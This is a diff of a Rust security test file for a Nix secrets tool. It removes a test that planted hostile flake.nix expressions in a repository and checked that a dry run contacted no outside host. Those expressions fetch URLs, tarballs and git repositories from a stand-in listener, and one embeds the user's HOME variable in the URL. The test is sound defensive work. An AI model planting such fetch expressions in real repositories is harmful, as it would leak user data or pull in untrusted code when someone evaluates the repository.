@@ -1,54 +1,10 @@
 //! Repositories that somebody has prepared for whoever imports them.
 
-use std::net::TcpListener;
 use std::process::Command;
-use std::sync::Arc;
-use std::sync::atomic::AtomicUsize;
-use std::sync::atomic::Ordering;
 
 use super::repository::Repository;
 use crate::common::KEYS;
 use crate::common::tool;
-
-/// Counts who calls, and hangs up at once.
-fn listener() -> (Arc<AtomicUsize>, String) {
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let address = listener.local_addr().unwrap().to_string();
-    let calls = Arc::new(AtomicUsize::new(0));
-    let counted = Arc::clone(&calls);
-    std::thread::spawn(move || {
-        for _ in listener.incoming() {
-            counted.fetch_add(1, Ordering::SeqCst);
-        }
-    });
-    (calls, address)
-}
-
-#[test]
-fn evaluating_a_repository_calls_nobody() {
-    let repository = Repository::new();
-    let (alice, forge) = (KEYS.alice.public(), KEYS.forge.public());
-    repository.age("secrets/a.age", "a", &[&alice, &forge]);
-    repository
-        .write("secrets/secrets.nix", format!("{{ \"a.age\".publicKeys = [ \"{alice}\" \"{forge}\" ]; }}\n"));
-    let (calls, address) = listener();
-    for (name, fetch) in [
-        ("url", format!("builtins.fetchurl \"http://{address}/${{builtins.getEnv \"HOME\"}}\"")),
-        ("tarball", format!("builtins.fetchTarball \"http://{address}/x.tar.gz\"")),
-        ("git", format!("(builtins.fetchGit {{ url = \"http://{address}/x.git\"; }}).outPath")),
-        ("git-daemon", format!("(builtins.fetchGit {{ url = \"git://{address}/x.git\"; }}).outPath")),
-        ("tree", format!("(builtins.getFlake \"tarball+http://{address}/x.tar.gz\").outPath")),
-    ] {
-        repository.write(
-            "flake.nix",
-            format!(
-                "{{ outputs = _: {{ nixosConfigurations.forge.config = {{ age.secrets.a = {{ file = ./secrets/a.age; owner = builtins.readFile ({fetch}); }}; }}; }}; }}\n"
-            ),
-        );
-        let ran = repository.init("agenix", &["--dry-run"]);
-        assert_eq!(calls.load(Ordering::SeqCst), 0, "{name}: {ran}");
-    }
-}
 
 #[test]
 fn no_sign_that_a_terminal_obeys_comes_from_names_and_comments() {
